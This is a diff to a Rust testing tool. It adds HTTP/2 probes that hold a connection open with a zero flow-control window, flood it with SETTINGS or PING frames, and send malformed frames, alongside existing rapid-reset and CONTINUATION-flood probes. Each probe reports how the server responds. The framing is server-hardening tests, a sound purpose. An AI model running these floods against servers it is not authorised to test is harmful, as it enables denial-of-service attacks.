@@ -161,6 +161,40 @@ enum Cmd {
         #[arg(long)]
         reply: u64,
     },
+    /// HTTP/2 with an initial stream window of 0 that never grows: asks for REQUESTS responses
+    /// of SIZE bytes and reads none of their data, holds the connection HOLD_MS, then closes;
+    /// prints JSON with the streams opened and those the server refused.
+    ZeroWindow {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 1000)]
+        requests: u32,
+        #[arg(long, default_value_t = 1 << 20)]
+        size: u64,
+        #[arg(long, default_value_t = 3000)]
+        hold_ms: u64,
+    },
+    /// HTTP/2 control-frame flood: FRAMES SETTINGS or PING frames (KIND `settings` or `ping`)
+    /// on one connection, reading every answer; prints JSON with the frames sent and the
+    /// server's GOAWAY code, if any.
+    H2Flood {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long)]
+        kind: String,
+        #[arg(long, default_value_t = 100_000)]
+        frames: u32,
+    },
+    /// An HTTP/2 stream error beside a healthy stream: stream 1 asks for `/delay/300`, then gets
+    /// a bad frame (KIND `window-update-zero`: WINDOW_UPDATE of 0; `data-after-end`: DATA after
+    /// its END_STREAM), and stream 3 asks for `/`. Prints JSON with the RST_STREAMs, the streams
+    /// answered and any GOAWAY.
+    H2StreamError {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long)]
+        kind: String,
+    },
     /// HTTP/2 rapid reset: opens STREAMS streams, cancelling each at once; prints JSON with the
     /// GOAWAY the server sent, if any.
     RapidReset {
@@ -1149,6 +1183,158 @@ fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     f
 }
 
+/// A raw HTTP/2 client connection whose reader thread passes on every frame it receives (type,
+/// flags, stream, payload) and answers nothing.
+struct H2Probe {
+    s: std::net::TcpStream,
+    frames: std::sync::mpsc::Receiver<(u8, u8, u32, Vec<u8>)>,
+}
+
+impl H2Probe {
+    fn open(addr: SocketAddr, settings: &[u8]) -> anyhow::Result<Self> {
+        use std::io::{Read, Write};
+        let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+        s.set_nodelay(true)?;
+        let mut reader = s.try_clone()?;
+        let (tx, frames) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            let mut head = [0u8; 9];
+            while reader.read_exact(&mut head).is_ok() {
+                let len = (usize::from(head[0]) << 16)
+                    | (usize::from(head[1]) << 8)
+                    | usize::from(head[2]);
+                let mut payload = vec![0; len];
+                if reader.read_exact(&mut payload).is_err() {
+                    break;
+                }
+                let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
+                if tx.send((head[3], head[4], stream, payload)).is_err() {
+                    break;
+                }
+            }
+        });
+        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        out.extend(h2_frame(0x4, 0, 0, settings));
+        s.write_all(&out)?;
+        Ok(Self { s, frames })
+    }
+
+    /// HPACK for `GET http://<addr><path>`.
+    fn get(addr: SocketAddr, path: &str) -> Vec<u8> {
+        let mut h = vec![0x82, 0x86, 0x04, path.len() as u8];
+        h.extend_from_slice(path.as_bytes());
+        let authority = addr.to_string();
+        h.extend([0x01, authority.len() as u8]);
+        h.extend_from_slice(authority.as_bytes());
+        h
+    }
+
+    /// Frames received until `quiet` passes without one, or the connection ends.
+    fn drain(&self, quiet: Duration) -> Vec<(u8, u8, u32, Vec<u8>)> {
+        let mut all = Vec::new();
+        while let Ok(f) = self.frames.recv_timeout(quiet) {
+            all.push(f);
+        }
+        all
+    }
+}
+
+fn goaway_code(frames: &[(u8, u8, u32, Vec<u8>)]) -> Option<u32> {
+    frames
+        .iter()
+        .find(|f| f.0 == 0x7 && f.3.len() >= 8)
+        .map(|f| u32::from_be_bytes([f.3[4], f.3[5], f.3[6], f.3[7]]))
+}
+
+fn zero_window(addr: SocketAddr, requests: u32, size: u64, hold_ms: u64) -> anyhow::Result<()> {
+    use std::io::Write;
+    // SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send no DATA on any stream.
+    let mut p = H2Probe::open(addr, &[0, 4, 0, 0, 0, 0])?;
+    let headers = H2Probe::get(addr, &format!("/bytes/{size}"));
+    let mut out = Vec::new();
+    for n in 0..requests {
+        out.extend(h2_frame(0x1, 0x5, 2 * n + 1, &headers));
+    }
+    p.s.write_all(&out)?;
+    let frames = p.drain(Duration::from_millis(hold_ms));
+    let refused = frames.iter().filter(|f| f.0 == 0x3).count();
+    let answered = frames.iter().filter(|f| f.0 == 0x1).count();
+    println!(
+        "{}",
+        serde_json::json!({"sent": requests, "answered": answered, "refused": refused, "goaway": goaway_code(&frames)})
+    );
+    Ok(())
+}
+
+fn h2_flood(addr: SocketAddr, kind: &str, frames: u32) -> anyhow::Result<()> {
+    use std::io::Write;
+    let frame = match kind {
+        "settings" => h2_frame(0x4, 0, 0, &[]),
+        "ping" => h2_frame(0x6, 0, 0, &[7; 8]),
+        other => anyhow::bail!("unknown flood kind {other:?}: settings or ping"),
+    };
+    let p = H2Probe::open(addr, &[])?;
+    let batch: Vec<u8> = frame.repeat(1000);
+    let mut sent = 0;
+    // A writer thread, so the reader below keeps taking the answers.
+    let mut w = p.s.try_clone()?;
+    let writer = std::thread::spawn(move || {
+        while sent < frames {
+            if w.write_all(&batch).is_err() {
+                break;
+            }
+            sent += 1000;
+        }
+        sent
+    });
+    let mut seen = Vec::new();
+    let mut goaway = None;
+    while let Ok(f) = p.frames.recv_timeout(Duration::from_secs(5)) {
+        seen.push((f.0, f.1));
+        if f.0 == 0x7 {
+            goaway = goaway_code(std::slice::from_ref(&f));
+            break;
+        }
+    }
+    let _ = p.s.shutdown(std::net::Shutdown::Both);
+    let sent = writer.join().unwrap_or(0);
+    let answers = seen.iter().filter(|f| f.1 & 0x1 == 0x1).count();
+    println!(
+        "{}",
+        serde_json::json!({"sent": sent, "answers": answers, "goaway": goaway.is_some(), "error_code": goaway})
+    );
+    Ok(())
+}
+
+fn h2_stream_error(addr: SocketAddr, kind: &str) -> anyhow::Result<()> {
+    use std::io::Write;
+    let mut p = H2Probe::open(addr, &[])?;
+    let mut out = h2_frame(0x1, 0x5, 1, &H2Probe::get(addr, "/delay/300"));
+    out.extend(match kind {
+        "window-update-zero" => h2_frame(0x8, 0, 1, &0u32.to_be_bytes()),
+        "data-after-end" => h2_frame(0x0, 0, 1, b"late"),
+        other => {
+            anyhow::bail!("unknown stream error {other:?}: window-update-zero or data-after-end")
+        }
+    });
+    out.extend(h2_frame(0x1, 0x5, 3, &H2Probe::get(addr, "/")));
+    p.s.write_all(&out)?;
+    // Stream 3's 1024 bytes fit the default window; stream 1 answers after 300 ms.
+    let frames = p.drain(Duration::from_millis(1500));
+    let rst: Vec<(u32, u32)> = frames
+        .iter()
+        .filter(|f| f.0 == 0x3 && f.3.len() >= 4)
+        .map(|f| (f.2, u32::from_be_bytes([f.3[0], f.3[1], f.3[2], f.3[3]])))
+        .collect();
+    let mut answered: Vec<u32> = frames.iter().filter(|f| f.0 == 0x1).map(|f| f.2).collect();
+    answered.dedup();
+    println!(
+        "{}",
+        serde_json::json!({"rst_stream": rst, "answered": answered, "goaway": goaway_code(&frames)})
+    );
+    Ok(())
+}
+
 /// Opens and cancels HTTP/2 streams as fast as it can (CVE-2023-44487).
 fn rapid_reset(addr: SocketAddr, streams: u32) -> anyhow::Result<()> {
     use std::io::Write;
@@ -1234,5 +1420,13 @@ fn main() -> anyhow::Result<()> {
             tokio::runtime::Runtime::new()?.block_on(h2c_upgrade(addr, &path))
         }
         Cmd::ContinuationFlood { addr, frames } => continuation_flood(addr, frames),
+        Cmd::ZeroWindow {
+            addr,
+            requests,
+            size,
+            hold_ms,
+        } => zero_window(addr, requests, size, hold_ms),
+        Cmd::H2Flood { addr, kind, frames } => h2_flood(addr, &kind, frames),
+        Cmd::H2StreamError { addr, kind } => h2_stream_error(addr, &kind),
     }
 }
